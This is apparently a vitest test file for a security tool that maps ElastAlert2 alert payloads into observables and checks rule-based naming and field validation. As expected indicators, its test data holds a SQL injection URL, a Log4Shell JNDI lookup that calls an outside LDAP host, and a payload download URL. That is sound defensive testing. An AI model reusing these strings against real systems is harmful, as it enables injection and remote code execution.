import { describe, expect, it } from 'vitest'
import { recordedBodies, recordedPayloads } from '../fixture-reader.ts'
import type { JsonObject } from '../json-object.ts'
import { kindOfShape } from './detect.ts'
import { mapElastAlertPost } from './elastalert-post.ts'
import type { MappedAlert } from './mapped.ts'

function alertOf(body: JsonObject): MappedAlert {
  const mapped = mapElastAlertPost(body, 'elastalert-post')
  if (mapped.outcome !== 'alert') throw new Error(JSON.stringify(mapped))
  return mapped.alert
}

const found = (alert: MappedAlert | undefined) =>
  alert?.observables.map(({ type, value, role }) => `${role} ${type} ${value}`)

const post = recordedBodies('recorded/elastalert2-post.json', '/hook/elastalert-post')
const post2 = recordedBodies('recorded/elastalert2-post2.json', '/hook/elastalert-post2')
const command = recordedPayloads('recorded/elastalert2-command-kcat.kafka.jsonl').flatMap(
  text => JSON.parse(text) as JsonObject[],
)

describe('what ElastAlert2 sent as raw matches', () => {
  it('is known by its shape', () => {
    expect([post.length, post2.length, command.length]).toEqual([2, 3, 4])
    expect(new Set([...post, ...post2, ...command].map(kindOfShape))).toEqual(new Set(['elastalert-post']))
  })

  it('is named by rule, index and document, so that a resend is the same', () => {
    const refs = [...post, ...post2, ...command].map(body => alertOf(body))
    expect(refs.every(alert => alert.chosenRef)).toBe(true)
    expect(new Set(refs.map(alert => alert.sourceRef)).size).toBe(9)
    expect(refs[0]?.sourceRef).toBe('web-attack-post|logs-nginx.access-default|bZDID6IB30S5goQMDANq')
    const resent = recordedBodies('recorded/failures/elastalert2-fail-post-500-then-202.json', '/hook/elastalert-post')
    expect(resent).toHaveLength(3)
    expect(new Set(resent.map(body => alertOf(body).sourceRef)).size).toBe(1)
  })

  it('has its title, severity and text from the parameters of the rule', () => {
    expect(alertOf(post[0] ?? {})).toMatchObject({
      title: 'web-attack-post',
      rule: 'web-attack-post',
      severity: 'medium',
      description: 'SQL injection or JNDI in a URL',
      eventTime: '2026-11-24T22:57:38.587Z',
      source: 'elastalert-post',
      type: 'elastalert',
    })
    expect(alertOf(post2[0] ?? {}).severity).toBe('critical')
  })

  it('finds ECS fields with their roles', () => {
    expect(found(alertOf(post[0] ?? {}))).toEqual(
      expect.arrayContaining([
        'target ip 10.20.0.11',
        'observer hostname web-01',
        'observer ip 10.20.0.11',
        'indicator domain www.example.org',
        'indicator url https://www.example.org/index.php?id=1%27%20OR%20%271%27=%271',
      ]),
    )
    expect(found(alertOf(post2[1] ?? {}))).toEqual(
      expect.arrayContaining([
        'indicator hash 3713dba4ea66cc397a9e0d6de9d6390f2d0623fae80cbd044b78ff63c57f999f',
        'mentioned url http://203.0.113.9/p.exe',
        'observer hostname ws-117',
      ]),
    )
    expect(found(alertOf(command[0] ?? {}))).toEqual(expect.arrayContaining(['source ip 198.51.100.23']))
  })

  it('finds where a Log4Shell request called home', () => {
    expect(found(alertOf(post[1] ?? {}))).toEqual(
      expect.arrayContaining([
        `indicator url /?x=\${jndi:ldap://198.51.100.200:1389/a}`,
        'mentioned url ldap://198.51.100.200:1389/a',
        'mentioned ip 198.51.100.200',
      ]),
    )
  })
})

describe('a raw match', () => {
  it('of a terms query has literal dotted keys and no document, so that its content names it', () => {
    const match = { 'user.name': 'root', 'source.ip': '203.0.113.7', num_hits: 11, num_matches: 1, rule_name: 'r' }
    const alert = alertOf(match)
    expect(alert).toMatchObject({ chosenRef: false, sourceRef: '', title: 'r' })
    expect(alert.content).toEqual({ 'user.name': 'root', 'source.ip': '203.0.113.7', rule_name: 'r' })
    expect(found(alert)).toEqual(['mentioned username root', 'source ip 203.0.113.7'])
  })

  it('of a rule for new terms is one for each field that was new or missing in the document', () => {
    const match = { _id: 'a', _index: 'i', num_hits: 1, num_matches: 1, rule_name: 'r' }
    const more = [
      {},
      { new_field: 'user.name' },
      { new_field: 'source.ip' },
      { new_field: ['a', 'b'] },
      { missing_field: 'b' },
    ]
    expect(more.map(field => alertOf({ ...match, ...field }).sourceRef)).toEqual([
      'r|i|a',
      'r|i|a|user.name',
      'r|i|a|source.ip',
      'r|i|a|a|b',
      'r|i|a|b',
    ])
  })

  it('without the name of its rule is not named by its document, which may match several', () => {
    expect(alertOf({ _id: 'a', _index: 'i', num_hits: 1, message: 'm' })).toMatchObject({
      chosenRef: false,
      title: 'm',
    })
  })

  it('may speak to us under our own keys', () => {
    const own = {
      vigia_source: 'siem',
      vigia_type: 'edr',
      vigia_ref: 'r-1',
      vigia_rule: 'rule',
      vigia_title: 'title',
      vigia_description: 'text',
      vigia_severity: 'critical',
      vigia_tags: ['a'],
      vigia_tlp: 'green',
      vigia_pap: 1,
      vigia_link: 'https://siem.example.org/1',
    }
    expect(alertOf({ num_hits: 1, num_matches: 1, ...own })).toMatchObject({
      source: 'siem',
      type: 'edr',
      sourceRef: 'r-1',
      chosenRef: true,
      rule: 'rule',
      title: 'title',
      description: 'text',
      severity: 'critical',
      tags: ['a'],
      tlp: 'green',
      pap: '1',
      externalLink: 'https://siem.example.org/1',
    })
  })

  it.each([
    [{ vigia_title: {} }, 'vigia_title: expected a string, got an object'],
    [{ vigia_tags: [1] }, 'vigia_tags: expected an array of strings, got an array'],
    [
      { vigia_severity: 'constructor' },
      'vigia_severity: expected low, medium, high, critical, 1 to 4, or a score up to 100',
    ],
  ])('is refused where a key of ours is wrong: %j', (body, reason) => {
    expect(mapElastAlertPost(body, 's')).toEqual({ outcome: 'rejection', reason })
  })
})
